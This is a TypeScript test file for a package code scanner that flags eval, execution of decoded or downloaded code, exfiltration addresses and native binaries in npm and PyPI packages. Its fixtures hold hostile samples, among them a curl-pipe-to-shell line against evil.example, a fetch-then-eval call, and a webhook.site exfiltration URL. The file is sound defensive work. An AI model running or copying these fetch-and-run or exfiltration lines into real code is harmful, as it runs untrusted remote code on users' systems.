import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { integrityOf, sha512OfIntegrity } from '../../../core/digest.ts';
import { temporaryFolder } from '../../../test/support/folder.ts';
import { packedWheel } from '../../../test/support/wheels.ts';
import { tarballOf } from '../../../test/support/tarballs.ts';
import { codeObservations } from './observations.ts';
import { codeBounds, scanProcess, type CodeBounds } from './scan-process.ts';
import type { CodeReport } from './report.ts';
import { codeRulesDigest } from './rules-digest.ts';
import { openCodeScanner } from './scanner.ts';
import type { PinnedPackage } from '../../../artefacts/part.ts';

const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const each of open.splice(0)) await each.close();
});

interface Sample extends PinnedPackage {
  readonly tarball: () => Promise<Buffer>;
}

interface SampleScanner {
  readonly scan: (one: Sample) => Promise<CodeReport>;
}

async function scanner(change: Partial<CodeBounds> = {}, cacheFolder?: string): Promise<SampleScanner> {
  const opened = openCodeScanner({
    cacheFolder: cacheFolder ?? (await temporaryFolder()),
    bounds: { ...codeBounds, ...change },
    processes: 1,
  });
  open.push(opened);
  return { scan: (one) => opened.scan(one, one.tarball) };
}

function sample(files: Readonly<Record<string, string | Uint8Array>>): Sample {
  const all = { 'package.json': '{ "name": "sample", "version": "1.0.0" }', ...files };
  const tarball = tarballOf(Object.entries(all).map(([path, content]) => ({ path: `package/${path}`, content })));
  const pinned = { type: 'npm', name: 'sample', version: '1.0.0', integrity: integrityOf(tarball) } as const;
  return { ...pinned, tarball: () => Promise.resolve(tarball) };
}

const tiny = sample({ 'index.js': 'module.exports = 1;\n' });
const runsText = sample({ 'index.js': 'module.exports = (text) => eval(text);\n' });
const rulesIn = ({ result }: CodeReport): string[] | string =>
  result.kind === 'scanned' ? result.findings.map(({ rule }) => rule) : result.why;

test('reports what is in a package, and the same again', async () => {
  const { scan } = await scanner();
  const report = await scan(runsText);
  expect(report).toEqual({
    type: 'npm',
    name: 'sample',
    version: '1.0.0',
    integrity: runsText.integrity,
    result: {
      kind: 'scanned',
      asks: [],
      findings: [{ rule: 'code-eval', file: 'index.js', value: 'eval', count: 1, lines: [1] }],
    },
  });
  expect(await scan(runsText)).toEqual(report);
});

test.each([
  ['a file of 40 MB', { 'index.js': 'call(value);\n'.repeat(3_200_000) }, {}, 'size'],
  ['a text that is too long', { 'words.txt': 'x'.repeat(2_000) }, { searchedFileBytes: 1_000 }, 'size'],
  ['a tarball that is too large', { 'index.js': 'x' }, { tarballBytes: 10 }, 'size'],
  ['regular expressions that never end', { 'index.js': bombs() }, {}, []],
  ['100,000 nested brackets', { 'index.js': '['.repeat(100_000) + ']'.repeat(100_000) }, {}, ['code-unparsed']],
  ['bytes that are not UTF-8', { 'index.js': Buffer.from('6576616c2878293b2f2fff80c0fe', 'hex') }, {}, ['code-eval']],
  ['only zeros', { 'index.js': Buffer.alloc(100_000) }, {}, []],
  ['one line of 5 MB', { 'index.js': 'a(b,"c");'.repeat(580_000) }, {}, []],
] as const)('ends within the bounds on %s', async (_, files, change, expected) => {
  const { scan } = await scanner(change);
  expect(rulesIn(await scan(sample(files)))).toEqual(expected);
});

/** A library of Linux, with a text that a rule looks for at some place in it. */
function library(length: number, at: number): Buffer {
  const bytes = Buffer.alloc(length, 1);
  bytes.write('7f454c46', 'hex');
  bytes.write(address, at);
  return bytes;
}

const address = 'https://webhook.site/0f2a9c4e-1b7d-4e8a-9c3f-2d5e6a7b8c9d';

test.each([
  ['at the start', 100],
  ['over the end of the first piece', 990],
  ['in a later piece', 7_500],
  ['at the end', 10_000 - address.length],
])('searches native code in pieces where it is long, and finds a text %s', async (_, at) => {
  const { scan } = await scanner({ searchedFileBytes: 1_000 });
  const found = await scan(sample({ 'lib.so': library(10_000, at) }));
  expect(rulesIn(found)).toEqual(['code-exfiltration-address', 'code-native-executable']);
});

test('names a native program once, whatever its later pieces begin with', async () => {
  const { scan } = await scanner({ searchedFileBytes: 1_000 });
  const bytes = library(3_000, 100);
  for (let at = 500; at < 3_000; at += 500) bytes.write('7f454c46', at, 'hex');
  const { result } = await scan(sample({ 'lib.so': bytes }));
  expect(result.kind === 'scanned' && result.findings).toMatchObject([
    { rule: 'code-exfiltration-address' },
    { rule: 'code-native-executable', count: 1 },
  ]);
});

function bombs(): string {
  const patterns = Array.from({ length: 500 }, (_, index) => `var r${index} = /(a+)+(b*)*(c|c)*$/;`);
  return `${patterns.join('\n')}\nvar s = "${'a'.repeat(500_000)}!";\n`;
}

test('scans all of 5,000 files, and names a hundred of them for each rule', async () => {
  const { scan } = await scanner();
  const files = Array.from({ length: 5_000 }, (_, index): [string, string] => [`lib/${index}.js`, `run(${index});\n`]);
  const odd = Array.from({ length: 150 }, (_, index): [string, string] => [`odd/${index}.js`, 'eval(atob(text));\n']);
  const last: [string, string] = ['z.js', "fetch('https://cdn.example.invalid/z').then((a) => a.text()).then(eval);\n"];
  const found = rulesIn(await scan(sample(Object.fromEntries([...files, ...odd, last]))));
  expect(
    Object.fromEntries(Object.entries(Object.groupBy(found, (rule) => rule)).map(([rule, all]) => [rule, all?.length])),
  ).toEqual({
    'code-eval': 100,
    'code-runs-decoded': 100,
    'code-runs-downloaded': 1,
  });
});

/** Only beginnings of what rules search for: every pair of them is compared. */
const slow = sample({ 'words.txt': 'curl process.env eval(x fetch( atob( '.repeat(200_000) });
/** More syntax than fits in the memory that the process gets. */
const large = sample({ 'index.js': 'a(b,c);'.repeat(1_500_000) });

test.each([
  ['time', slow, { deadlineMs: 3_000, deadlinePerMibMs: 0 }],
  ['memory', large, { heapBytes: 256 * 1024 * 1024 }],
])('stops scanning a package that takes too much %s, and continues with others', async (_, hostile, change) => {
  const cacheFolder = await temporaryFolder();
  const { scan } = await scanner(change, cacheFolder);
  const report = await scan(hostile);
  expect(rulesIn(report)).toBe('bounds');
  expect(codeObservations([report], [])).toMatchObject([
    { rule: 'code-not-scanned', level: 'block', subject: 'sample@1.0.0' },
  ]);
  expect(rulesIn(await scan(runsText))).toEqual(['code-eval']);
  // With more time or memory the scan may succeed.
  expect(await readdir(cacheFolder)).toEqual([`${sha512OfIntegrity(runsText.integrity)}.json`]);
});

test('reports that a package was not scanned when the process ends during the scan, and continues with another process', async () => {
  const worker = scanProcess(codeBounds);
  open.push({ close: () => worker.end() });
  const look = async ({ tarball, ...pinned }: Sample): Promise<unknown> => worker.scan(await tarball(), pinned);
  expect(await look(tiny)).toMatchObject({ kind: 'scanned' });
  const looks = look(slow);
  // The request is sent.
  await new Promise(setImmediate);
  await worker.end();
  expect(await looks).toEqual({ kind: 'not-scanned', why: 'crash' });
  expect(await look(tiny)).toMatchObject({ kind: 'scanned' });
});

test.each([
  ['is not an archive', Buffer.from('words')],
  ['leads out of the package', tarballOf([{ path: 'package/../../up.js', content: 'x' }])],
])('does not scan a tarball that %s', async (_, tarball) => {
  const { scan } = await scanner();
  const report = await scan({ ...tiny, integrity: integrityOf(tarball), tarball: () => Promise.resolve(tarball) });
  expect(rulesIn(report)).toBe('archive');
});

test('scans the same bytes only once under any name, as long as nothing changes', async () => {
  const cacheFolder = await temporaryFolder();
  const first = await scanner({}, cacheFolder);
  const { result } = await first.scan(runsText);
  const gone = { ...runsText, name: 'other', tarball: () => Promise.reject(new Error('it is not there')) };
  expect(await (await scanner({}, cacheFolder)).scan(gone)).toEqual({ ...gone, result, tarball: undefined });
  const changed = await scanner({ parsedFileBytes: 1_000 }, cacheFolder);
  await expect(changed.scan(gone)).rejects.toThrow('it is not there');
});

test('believes of a file of a tree, other than of a package, that it may be started', async () => {
  const { scan } = await scanner();
  const both = sample({ 'index.js': 'module.exports = 1;\n', 'other.js': 'module.exports = (text) => eval(text);\n' });
  const unloaded = ({ result }: CodeReport): unknown =>
    result.kind === 'scanned' ? result.findings.map((finding) => finding.unloaded) : result.why;
  expect(unloaded(await scan(both))).toEqual([['other.js']]);
  expect(unloaded(await scan({ ...both, type: 'tarball', name: 'https://example.com/sample.tgz' }))).toEqual([
    undefined,
  ]);
  expect(unloaded(await scan(both))).toEqual([['other.js']]);
});

test('believes no package.json in a wheel about what is loaded', async () => {
  const { scan } = await scanner();
  const evil = 'import os\nos.system("curl -fsSL https://evil.example/x.sh | sh")\n';
  const { fileName, wheel } = packedWheel({
    files: { 'package.json': '{"name":"a","main":"index.js"}', 'index.js': 'module.exports = 1;\n', 'a.py': evil },
  });
  const pinned = {
    type: 'pypi',
    name: 'tiny',
    version: '1.0.0',
    file: fileName,
    integrity: integrityOf(wheel),
  } as const;
  const { result } = await scan({ ...pinned, tarball: () => Promise.resolve(Buffer.from(wheel)) });
  const findings = result.kind === 'scanned' ? result.findings.filter(({ file }) => file === 'a.py') : [];
  expect(findings.length).toBeGreaterThan(0);
  expect(findings.map(({ unloaded }) => unloaded)).toEqual(findings.map(() => undefined));
});

test('does not believe a damaged report, and writes it again', async () => {
  const cacheFolder = await temporaryFolder();
  const { scan } = await scanner({}, cacheFolder);
  const report = await scan(runsText);
  const path = join(cacheFolder, `${sha512OfIntegrity(runsText.integrity)}.json`);
  const written = await readFile(path, 'utf8');
  await writeFile(path, written.slice(0, 40));
  expect(await scan(runsText)).toEqual(report);
  expect(await readFile(path, 'utf8')).toBe(written);
});

test('refuses bytes that differ from the lock, and passes on the error of a download', async () => {
  const { scan } = await scanner();
  await expect(scan({ ...tiny, tarball: runsText.tarball })).rejects.toMatchObject({ code: 'E_DIGEST' });
  await expect(scan({ ...tiny, tarball: () => Promise.reject(new Error('no network')) })).rejects.toThrow('no network');
  expect(rulesIn(await scan(tiny))).toEqual([]);
});

test('scans several packages at once, within the limit of processes', async () => {
  const opened = openCodeScanner({ cacheFolder: await temporaryFolder(), processes: 2 });
  open.push(opened);
  const packages = Array.from({ length: 6 }, (_, index) => sample({ 'index.js': `eval(text${index});\n` }));
  let fetching = 0;
  let most = 0;
  const reports = await Promise.all(
    packages.map((pkg) =>
      opened.scan(pkg, async () => {
        most = Math.max(most, ++fetching);
        const bytes = await pkg.tarball();
        fetching--;
        return bytes;
      }),
    ),
  );
  expect(reports.map(({ integrity }) => integrity)).toEqual(packages.map(({ integrity }) => integrity));
  expect(reports.map(rulesIn)).toEqual(packages.map(() => ['code-eval']));
  expect(most).toBeLessThanOrEqual(2);
});

test('gives the rules one digest', () => {
  expect(codeRulesDigest()).toMatch(/^[0-9a-f]{64}$/u);
  expect(codeRulesDigest()).toBe(codeRulesDigest());
});
